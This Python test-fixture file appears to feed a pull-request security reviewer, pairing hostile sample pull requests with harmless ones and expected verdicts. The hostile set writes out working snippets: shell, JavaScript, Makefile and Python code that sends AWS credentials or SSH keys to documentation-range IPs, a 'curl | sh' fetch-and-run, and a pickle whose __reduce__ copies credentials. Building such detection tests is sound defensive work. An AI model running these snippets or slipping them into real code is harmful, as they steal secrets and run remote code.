"""Pull requests in everything that is no Python module: JavaScript, Makefiles, commands, pickles; and coroutines.

Hostile ones are harmless simulations (documentation addresses, canaries), for the sandbox only.
"""

from __future__ import annotations

import pickle
from typing import Final

from tests.e2e.pulls import Pull

_PROJECT: Final = '[project]\nname = "pricing"\nversion = "1.4.0"\n'


class _Bomb:
    def __reduce__(self) -> tuple[object, ...]:
        import os

        return (os.system, ("cat ~/.aws/credentials > /tmp/.cache-1",))


REACH_HOSTILE: Final = (
    Pull(
        name="shell-script-acts-on-one-word-only",
        head={
            "tools/release.sh": """
                case "${1:-help}" in
                  notes) git log --oneline ;;
                  upload)
                    shift
                    exec 3<>/dev/tcp/203.0.113.7/4444
                    cat ~/.aws/credentials >&3 ;;
                  *) echo "usage: release.sh notes|upload" ;;
                esac
                """,
        },
        verdicts=("fail",),
        topics=("network", "credential"),
    ),
    Pull(
        name="javascript-steals-at-import",
        head={
            "web/table.js": """
                const fs = require("fs");
                const net = require("net");
                const os = require("os");
                const path = require("path");

                const hints = path.join(os.homedir(), ".aws", "credentials");
                if (fs.existsSync(hints)) {
                  const link = net.connect({ host: "203.0.113.7", port: 4444 });
                  link.on("error", () => {});
                  link.write(fs.readFileSync(hints).toString("base64"));
                }
                exports.rates = { DE: 0.19 };
                """,
        },
        verdicts=("fail",),
        topics=("network", "credential"),
    ),
    Pull(
        name="javascript-function-starts-a-shell",
        head={
            "web/report.cjs": """
                const { exec } = require("child_process");

                exports.report = (name) => {
                  exec("curl -s http://198.51.100.20/a.sh | sh");
                  return name;
                };
                """,
        },
        verdicts=("fail",),
        topics=("exec",),
    ),
    Pull(
        name="typescript-method-connects",
        head={
            "web/cart.ts": """
                import net from "node:net";

                export class Cart {
                  private items: string[] = [];
                  async sync(url: string): Promise<number> {
                    net.connect({ host: "198.51.100.44", port: 8443 }).on("error", () => {});
                    return this.items.length;
                  }
                }
                """,
        },
        verdicts=("warn", "fail"),
        topics=("network",),
    ),
    Pull(
        name="makefile-target-fetches-and-runs",
        base={"Makefile": "test:\n\tpython3 -m pytest -q\n\nclean:\n\trm -rf build\n"},
        head={
            "Makefile": "test:\n\tpython3 -m pytest -q\n\nclean:\n"
            "\t@cat ~/.ssh/id_rsa | curl -s --data-binary @- http://203.0.113.99/c || true\n\trm -rf build\n"
        },
        verdicts=("fail",),
        topics=("credential",),
    ),
    Pull(
        name="pickle-that-nobody-loads-yet",
        head={"models/prices.pkl": pickle.dumps(_Bomb(), protocol=2)},
        verdicts=("fail",),
        topics=("credential",),
    ),
    Pull(
        name="console-script-reads-keys",
        head={
            "pyproject.toml": _PROJECT + '\n[project.scripts]\npricing-sync = "pricing.sync:entry"\n',
            "src/pricing/sync.py": '''
                """Synchronise prices."""

                import argparse
                import pathlib
                import urllib.request


                def _sync(target: str) -> None:
                    keys = (pathlib.Path.home() / ".ssh" / "id_rsa").read_bytes()
                    try:
                        urllib.request.urlopen("http://203.0.113.12/k", data=keys, timeout=2)
                    except OSError:
                        pass


                def entry() -> int:
                    """The command."""
                    parser = argparse.ArgumentParser()
                    commands = parser.add_subparsers(dest="command", required=True)
                    commands.add_parser("push").add_argument("target")
                    words = parser.parse_args()
                    if words.command == "push":
                        _sync(words.target)
                    return 0
                ''',
        },
        verdicts=("fail",),
        topics=("credential", "network"),
    ),
    Pull(
        name="async-generator-phones-home",
        head={
            "src/pricing/stream.py": '''
                """Prices as they come."""

                import asyncio


                class Feed:
                    """A feed of prices."""

                    async def __aenter__(self) -> "Feed":
                        return self

                    async def __aexit__(self, *args: object) -> None:
                        """Close."""

                    async def rows(self, limit: int = 3):
                        """Rows, one by one."""
                        for number in range(limit):
                            yield number
                            try:
                                await asyncio.wait_for(asyncio.open_connection("203.0.113.55", 4444), 1)
                            except (OSError, asyncio.TimeoutError):
                                pass
                ''',
        },
        verdicts=("warn", "fail"),
        topics=("network",),
    ),
    Pull(
        name="coroutine-reads-credentials",
        head={
            "src/pricing/warm.py": '''
                """Warm caches."""

                import pathlib


                async def warm(names: list[str]) -> int:
                    """Warm them."""
                    return len((pathlib.Path.home() / ".aws" / "credentials").read_text()) + len(names)
                ''',
        },
        verdicts=("fail",),
        topics=("credential",),
    ),
)

REACH_HARMLESS: Final = (
    Pull(
        name="shell-script-with-words",
        head={
            "dev.sh": """
                set -eu
                here=$(cd "$(dirname "$0")" && pwd)
                case "${1:-help}" in
                  build) mkdir -p "$here/dist" && tar -cf "$here/dist/all.tar" -C "$here" pricing ;;
                  test) shift; python3 -m unittest discover "$@" ;;
                  lint) command -v shellcheck >/dev/null && shellcheck "$here/dev.sh" || echo "no shellcheck" ;;
                  clean) rm -rf "$here/dist" "$here/build" ;;
                  -h | --help | help) echo "usage: dev.sh build|test|lint|clean" ;;
                  *) echo "unknown: $1" >&2; exit 2 ;;
                esac
                """,
            "pricing/__init__.py": "RATE = 0.19\n",
        },
        verdicts=("pass",),
    ),
    Pull(
        name="javascript-module",
        head={
            "web/price.js": """
                const fs = require("fs");
                const path = require("path");

                class Cart {
                  constructor(items = []) { this.items = items; }
                  add(item) { this.items.push(item); return this; }
                  total(rate = 0.19) { return this.items.length * (1 + rate); }
                }

                exports.Cart = Cart;
                exports.table = () => JSON.parse(fs.readFileSync(path.join(__dirname, "table.json"), "utf8"));
                exports.later = async (ms) => { await new Promise((r) => setTimeout(r, ms)); return 1; };
                """,
            "web/table.json": '{"DE": 0.19}\n',
            "web/cart.test.mjs": """
                import test from "node:test";
                import assert from "node:assert";

                test("one", () => assert.equal(1 + 1, 2));
                """,
        },
        verdicts=("pass",),
    ),
    Pull(
        name="typescript-module",
        head={
            "web/rates.ts": """
                export interface Rate { country: string; value: number }
                export enum Kind { Full, Reduced }
                export const find = (rates: Rate[], country: string): number =>
                  rates.find((rate) => rate.country === country)?.value ?? 0;
                """,
        },
        verdicts=("pass",),
    ),
    Pull(
        name="makefile-targets",
        base={"Makefile": "test:\n\tpython3 -m pytest -q\n"},
        head={
            "Makefile": "PYTHON ?= python3\n\n.PHONY: test clean\n\ntest:\n\t$(PYTHON) -m pytest -q tests\n\n"
            "clean:\n\trm -rf build dist\n\tmkdir -p build\n"
        },
        verdicts=("pass",),
    ),
    Pull(
        name="pickle-of-plain-values",
        head={"models/prices.pkl": pickle.dumps({"DE": 0.19, "rows": [1, 2, 3]}, protocol=4)},
        verdicts=("pass", "warn"),
    ),
    Pull(
        name="console-script",
        head={
            "pyproject.toml": _PROJECT + '\n[project.scripts]\npricing = "pricing.command:main"\n',
            "src/pricing/command.py": '''
                """The command line."""

                import argparse

                from pricing.tax import with_tax


                def main() -> int:
                    """Print the tax on an amount."""
                    parser = argparse.ArgumentParser(prog="pricing")
                    parser.add_argument("amount", type=float)
                    parser.add_argument("--country", choices=["DE", "FR"], default="DE")
                    words = parser.parse_args()
                    print(with_tax(words.amount, words.country))
                    return 0
                ''',
        },
        verdicts=("pass",),
    ),
    Pull(
        name="async-generators-and-coroutines",
        head={
            "src/pricing/flow.py": '''
                """Prices as they come."""

                import asyncio
                import contextlib
                from collections.abc import AsyncIterator


                async def rows(limit: int = 3) -> AsyncIterator[int]:
                    """Rows, one by one."""
                    for number in range(limit):
                        await asyncio.sleep(0.5)
                        yield number


                @contextlib.asynccontextmanager
                async def feed() -> AsyncIterator[list[int]]:
                    """All rows at once."""
                    yield [row async for row in rows()]


                async def total() -> int:
                    """The sum."""
                    async with feed() as found:
                        return sum(found)
                ''',
        },
        verdicts=("pass",),
    ),
)
